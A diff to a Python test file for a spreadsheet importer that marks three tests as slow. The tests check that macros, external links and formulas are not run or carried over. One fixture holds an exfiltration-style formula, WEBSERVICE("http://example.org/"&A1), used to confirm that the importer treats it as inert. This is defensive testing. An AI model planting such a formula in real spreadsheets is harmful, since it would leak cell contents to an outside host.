@@ -226,6 +226,7 @@ def test_macros_are_left_alone_and_links_not_followed(tmp_path: Path) -> None:
         assert not [name for name in archive.namelist() if "vba" in name or "external" in name]
 
 
+@pytest.mark.slow
 def test_formulas_are_not_run_and_do_not_come_along(tmp_path: Path) -> None:
     """Excel's saved value is read, whatever the formula is; texts like formulas stay texts in the marked copy."""
     evil = b'<c r="E2"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>0.25</v></c>'
@@ -253,6 +254,7 @@ def test_formulas_are_not_run_and_do_not_come_along(tmp_path: Path) -> None:
     assert not [c for sheet in copy.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
 
 
+@pytest.mark.slow
 def test_a_problem_that_looks_like_a_formula_is_text_in_the_list(tmp_path: Path) -> None:
     place = write_book(tmp_path / "case.xlsx", lambda book: setattr(book["Prices"], "title", "=Prices"))
     assert run_import([str(place), "--out", str(tmp_path / "case")], "en") == 2
@@ -267,6 +269,7 @@ def test_another_kind_of_file_is_refused_by_its_name(tmp_path: Path) -> None:
     ]
 
 
+@pytest.mark.slow
 def test_without_defusedxml_nothing_is_read(tmp_path: Path) -> None:
     """openpyxl can be told by the environment to leave defusedxml out; then we stop, loudly."""
     place = write_book(tmp_path / "case.xlsx")
